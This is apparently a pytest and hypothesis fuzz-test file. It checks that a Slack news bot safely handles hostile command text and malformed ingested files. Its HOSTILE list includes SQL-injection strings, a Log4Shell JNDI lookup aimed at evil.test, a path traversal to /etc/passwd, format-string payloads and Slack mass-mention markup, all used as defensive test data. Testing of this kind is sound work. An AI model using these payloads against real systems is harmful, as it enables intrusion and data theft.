"""Hostile input proof: command text and ingested files.

Command text (hypothesis): empty, 40,000 characters, control characters, right-to-left marks, emoji,
Slack mrkdwn, ``<!channel>``, ``<!here>``, ``<@U123>``, ``<#C123|x>``, SQL-looking text and random
text, through every command: in-process through the real Bolt app (bot.runtime.Console) and a slice
over real HTTP. Every answer: status 200, no traceback and no app.error apology, no ``<!``, ``<@`` or
``<#`` in any string of the payload, within Block Kit's limits (each block parsed and validated by
slack_sdk), and the store unchanged (article count, snapshot bytes, digest slots).

Files through bot.service.read_articles and StoryService.ingest: invalid UTF-8, binary, huge
(> 5 MB), empty, undated, only page furniture, control characters, and random bytes (hypothesis):
no exception escapes, each is refused with its reason, and a refused file changes nothing.

Quick: about 200 hypothesis cases in all. Long (NEWSBOT_LONG=1 .venv/bin/pytest tests/proof -m slow):
over 10,000.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.runtime import Console, Runtime
from bot.service import StoryService, read_articles
from bot.store import Store
from tests.fakes.slack_api import FakeSlackAPI
from tests.proof.support import APOLOGY, block_kit_problems, store_state, unescaped_mentions, write_corpus
from tests.slack.harness import SlackBot, settings_for

COMMANDS = ("/who-signed", "/timeline", "/quote", "/sources", "/newsbot")
NEWSBOT_VERBS = ("", "help ", "status ", "digest ", "digest post ", "DIGEST ")
HOSTILE = (
    "",
    " ",
    "\u202e",
    "\u200f",
    "\u200e",
    "\u200b",
    "\ufeff",
    "\x00",
    "\x07",
    "\x1b[31m",
    "\r\n",
    "\t",
    "\x7f",
    "\x85",
    "😀",
    "👩‍👩‍👧‍👦",
    "🇮🇳",
    "*bold*",
    "_it_",
    "~x~",
    "`code`",
    "```block```",
    "> quote",
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<!subteam^S123|@team>",
    "<!date^1392734382^{date}|x>",
    "<@U123>",
    "<@W123|bob>",
    "<#C123|x>",
    "<#C123>",
    "<https://evil.test|click me>",
    "<mailto:x@evil.test>",
    "@here",
    "@channel",
    "@everyone",
    "&lt;!channel&gt;",
    "&amp;",
    "'; DROP TABLE articles;--",
    '" OR 1=1 --',
    "%s%s%n",
    "{0}{__class__}",
    "${jndi:ldap://evil.test/a}",
    "../../etc/passwd",
    "sosa",
    "india us",
    "rajnath",
    "hegsith",
    "tariffs",
    "post",
)
STORY_WORDS = frozenset({"sosa", "india us", "rajnath", "hegsith", "tariffs", "post"})
JUNK = tuple(piece for piece in HOSTILE if piece not in STORY_WORDS)
"""The hostile pieces without words of the story: what random files are made of."""
LONG_EXAMPLES = {"console": 6000, "http": 2000, "texts": 1500, "bytes": 1500}
QUICK_EXAMPLES = {"console": 100, "http": 30, "texts": 35, "bytes": 35}

plain_chars = st.characters(exclude_categories=("Cs",))  # lone surrogates cannot be sent as UTF-8


@st.composite
def hostile_text(draw: st.DrawFn) -> str:
    """A mix of hostile pieces and random text; sometimes blown up to 40,000 characters."""
    pieces = draw(
        st.lists(st.one_of(st.sampled_from(HOSTILE), st.text(plain_chars, max_size=12)), max_size=10)
    )
    text = "".join(pieces)
    if draw(st.integers(0, 19)) == 0:
        filler = text or draw(st.sampled_from(HOSTILE[1:]))
        text = (filler * (40_000 // len(filler) + 1))[:40_000]
    return text


command_lines = st.tuples(st.sampled_from(COMMANDS), st.sampled_from(NEWSBOT_VERBS), hostile_text()).map(
    lambda t: (t[0], (t[1] if t[0] == "/newsbot" else "") + t[2])
)


def problems(status: int, payload: dict[str, Any]) -> list[str]:
    """Everything wrong with one answer to a hostile command."""
    found: list[str] = []
    if status != 200:
        found.append(f"status {status}")
    dumped = json.dumps(payload, ensure_ascii=False)
    if "Traceback" in dumped or "traceback" in dumped:
        found.append("a traceback in the reply")
    if APOLOGY in dumped:
        found.append("the app.error apology: an unexpected exception")
    if not payload.get("blocks"):
        found.append("no blocks")
    found += [f"unescaped: {s!r}" for s in unescaped_mentions(payload)]
    found += block_kit_problems(payload)
    return found


def run_examples(count: int, strategy: st.SearchStrategy[Any], check: Any) -> None:
    """Run ``check`` on ``count`` examples of ``strategy`` (no example database: nothing is written)."""

    @settings(
        max_examples=count,
        deadline=None,
        database=None,
        derandomize=False,
        suppress_health_check=[
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.large_base_example,
        ],
    )
    @given(strategy)
    def run(example: Any) -> None:
        check(example)

    run()


SIZES = [
    pytest.param(QUICK_EXAMPLES, id="quick"),
    pytest.param(LONG_EXAMPLES, id="long", marks=[pytest.mark.slow, pytest.mark.timeout(900)]),
]


# ---------------------------------------------------------------------- command text


@pytest.fixture(scope="module")
def hostile_runtime(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Runtime]:
    """A console-mode runtime over a fresh seeded store (no Slack token: nothing can be posted)."""
    database = tmp_path_factory.mktemp("hostile") / "nb.db"
    with FakeSlackAPI() as fake:
        settings = settings_for(fake, str(database), SLACK_BOT_TOKEN="", SLACK_SIGNING_SECRET="")
        runtime = Runtime(settings)
        yield runtime
        runtime.close()


@pytest.mark.parametrize("sizes", SIZES)
def test_hostile_command_text_through_the_bolt_app(hostile_runtime: Runtime, sizes: dict[str, int]) -> None:
    console = Console(hostile_runtime)
    before = store_state(hostile_runtime.store)
    explicit = [(c, t) for c in COMMANDS for t in ("", "x" * 40_000, "<!channel>" * 4000, "😀" * 40_000)]
    for command, text in explicit:
        answer = console.ask(f"{command} {text}", user="U0HOSTILE1")
        assert problems(answer.status, answer.payload) == [], (command, text[:80])
    assert store_state(hostile_runtime.store) == before

    def check(line: tuple[str, str]) -> None:
        command, text = line
        # Console.ask splits on the first space as Slack does; the text goes in whole, spaces and all.
        answer = console.ask(f"{command} {text}", user="U0HOSTILE1")
        assert problems(answer.status, answer.payload) == [], (command, text[:200])
        assert store_state(hostile_runtime.store) == before

    run_examples(sizes["console"], command_lines, check)


@pytest.mark.parametrize("sizes", SIZES)
def test_hostile_command_text_over_http(bot: SlackBot, slack: FakeSlackAPI, sizes: dict[str, int]) -> None:
    before = store_state(bot.runtime.store)

    def check(line: tuple[str, str]) -> None:
        command, text = line
        body = bot.command_body(command, text, user="U0HOSTILE1")
        answer = bot.post(body, bot.signed_headers(body))
        payload = (
            answer.payload if answer.headers.get("content-type", "").startswith("application/json") else {}
        )
        assert problems(answer.status, payload) == [], (command, text[:200], answer.body[:200])
        assert store_state(bot.runtime.store) == before

    run_examples(sizes["http"], command_lines, check)
    assert slack.calls_to("chat.postMessage") == []


# ---------------------------------------------------------------------- hostile files


@pytest.fixture(scope="module")
def ingest_store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Store, StoryService, Path]]:
    """A seeded store, its story service, and a scratch folder for files."""
    folder = tmp_path_factory.mktemp("hostile-files")
    store = Store(folder / "nb.db")
    service = StoryService(store)
    service.bootstrap()
    yield store, service, folder
    store.close()


FURNITURE = (
    "Advertisement\n\nShare this article\n\nSign up for our daily newsletter and get the top stories every "
    "morning\n\nClick here to download the app and read more\n\nListen to this article\n\n5 min read\n\n"
    "WhatsApp\n\nFacebook\n\nTwitter\n\nCopy link\n\nStory continues below advertisement\n\nRead more\n"
)
UNDATED = (
    "The bakery on the corner of the market square sells bread and cakes every morning.\n\n"
    "Customers say the bread is the best in the town, and the queue is long before the doors open.\n\n"
    "The owner said he would keep the prices as they are and open a second shop nearby.\n"
)
HOSTILE_FILES: dict[str, tuple[bytes, str]] = {
    "invalid-utf8.txt": (
        "Caf\xe9 society met in Paris to talk about trade. ".encode("latin-1") * 5,
        "not UTF-8 text",
    ),
    "binary.txt": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4, "binary"),
    "huge.txt": (b"Words of an article that never ends. " * 140_000, "too large"),
    "empty.txt": (b"", "empty"),
    "blank.txt": (b" \n\t\r\n  \n", "empty"),
    "bom-only.txt": (b"\xef\xbb\xbf", "empty"),
    "undated.txt": (UNDATED.encode(), "no usable date"),
    "furniture.txt": (FURNITURE.encode(), "page furniture"),
    "controls.txt": (
        ("text " + "\x01\x02\x03\x04" * 10 + " more words of text here and there").encode(),
        "control characters",
    ),
    "few-words.txt": ("🙂 12 34 ✓ … — ok".encode(), "fewer than 8 words"),
    "rtl.txt": (("\u202e" * 30 + "\u200f" * 30).encode(), "fewer than 8 words"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_FILES))
def test_a_hostile_file_is_refused_with_its_reason(
    ingest_store: tuple[Store, StoryService, Path], name: str
) -> None:
    store, service, folder = ingest_store
    data, reason = HOSTILE_FILES[name]
    path = folder / name
    path.write_bytes(data)
    if name == "huge.txt":
        assert path.stat().st_size > 5_000_000
    before = store_state(store)

    report = service.ingest(read_articles([path]))

    assert report.added == []
    assert len(report.failed) == 1, report
    assert report.failed[0][0] in (str(path), path.stem)
    assert reason in report.failed[0][1], report.failed[0][1]
    assert store_state(store) == before


def test_good_articles_go_in_and_every_bad_file_is_reported(
    ingest_store: tuple[Store, StoryService, Path], tmp_path: Path
) -> None:
    store, service, _folder = ingest_store
    folder = tmp_path / "mixed"
    docs = write_corpus(folder, 3, seed=11)
    for name, (data, _reason) in HOSTILE_FILES.items():
        (folder / name).write_bytes(data)
    before = store.article_count()

    report = service.ingest(read_articles([folder]))

    refused = {Path(name).stem for name, _reason in report.failed}
    assert set(HOSTILE_FILES) == {f"{stem}.txt" for stem in refused - set(docs)}
    assert {doc for doc, _counts in report.added} <= set(docs)
    assert store.article_count() == before + len(report.added)
    assert len(report.added) >= 2


@pytest.mark.parametrize("sizes", SIZES)
def test_random_bytes_and_text_are_refused_without_an_exception(
    ingest_store: tuple[Store, StoryService, Path], sizes: dict[str, int]
) -> None:
    store, service, folder = ingest_store
    path = folder / "random.txt"
    before = store_state(store)

    def check(data: bytes) -> None:
        path.write_bytes(data)
        report = service.ingest(read_articles([path]))
        assert report.added == [], f"accepted {data[:100]!r}"
        assert len(report.failed) == 1
        assert report.failed[0][1], "refused without a reason"
        assert store_state(store) == before

    run_examples(sizes["bytes"], st.binary(max_size=4096), check)
    run_examples(
        sizes["texts"],
        st.lists(st.one_of(st.sampled_from(JUNK), st.text(plain_chars, max_size=30)), max_size=40).map(
            lambda parts: "".join(parts).encode("utf-8")
        ),
        check,
    )
